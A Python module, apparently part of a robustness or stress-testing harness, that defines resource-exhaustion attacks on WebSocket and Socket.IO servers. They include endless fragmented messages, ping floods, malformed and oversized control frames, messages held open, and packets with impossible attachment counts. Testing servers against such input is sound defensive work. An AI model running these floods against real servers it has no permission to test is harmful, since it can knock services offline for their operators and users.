"""Attacks on what reads WebSockets."""

import itertools
import json

from raw_websocket import BINARY, PING, PONG, TEXT, frame, frame_head
from speech import first, forever, socketio, texts, websocket
from streams import Stream

CONTINUATION = 0


def fragments(attacker):
    """A message that never ends: empty fragments, and small ones."""
    begin = frame(TEXT, b"4", final=False)
    then = [frame(CONTINUATION, b"", final=False) * 5000,
            frame(CONTINUATION, b"x", final=False) * 5000]
    attacker.drive(lambda n: Stream(
        websocket(attacker)[0], first(begin, forever(then[n % 2], 5000))), 4)


def pings(attacker):
    """Half of them read the pongs."""
    data = frame(PING, b"x" * 125) * 500
    attacker.drive(lambda n: Stream(
        websocket(attacker, receive_buffer=4096)[0], forever(data, 500),
        reads=n % 2 == 0), 4)


def control_frames(attacker):
    """Pongs that nobody asked for, and frames that are none."""
    wrong = [frame(PING, b"x" * 126), bytes([0x89, 0xFE, 0, 5, 0, 0, 0, 0]),
             frame(PING, b"", final=False), frame(3, b""),
             frame(TEXT, b"4x", masked=False), frame(8, b"\x03"),
             frame_head(TEXT, 1 << 40)]
    pongs = frame(PONG, b"x" * 100) * 500

    def open_stream(n):
        if n < 2:
            return Stream(websocket(attacker)[0], forever(pongs, 500))
        return Stream(websocket(attacker)[0],
                      first(pongs, iter([(wrong[n % len(wrong)], 1)])))
    attacker.drive(open_stream, 2 + len(wrong))


def held_messages(attacker):
    """As much as a connection may hold without saying anything whole: a packet
    that waits for its attachments, and a message that waits for its end."""
    size = attacker.payload
    places = [{"_placeholder": True, "num": i} for i in range(5)]
    text = f'455-["say",{json.dumps(places)[1:-1]},"'
    text += "x" * (size - len(text) - 2) + '"]'
    packet = texts(text) + frame(BINARY, b"x" * (size // 5)) * 4
    rest = frame(TEXT, b"x" * (size - 1), final=False)

    def open_stream(_):
        return Stream(socketio(attacker), itertools.chain(
            [(packet + rest, 1)], itertools.repeat((frame(PING, b""), 0))),
            interval=0.2, chunk=4 * size)
    attacker.drive(open_stream, 50)


def attachments(attacker):
    """Counts that cannot be meant."""
    packets = ["45" + "9" * 100 + '-["say"]', '4599-["say"]', '451-["say"]',
               '4500001-["say"]',
               '4510-["say",' + '{"_placeholder":true,"num":0},' * 200 + "1]",
               '451-["say",{"_placeholder":true,"num":99999999999999999999}]']

    def open_stream(n):
        return Stream(socketio(attacker), iter(
            [(texts(packets[n % len(packets)]) + frame(BINARY, b"x") * 100,
              1)]))
    attacker.drive(open_stream, len(packets))
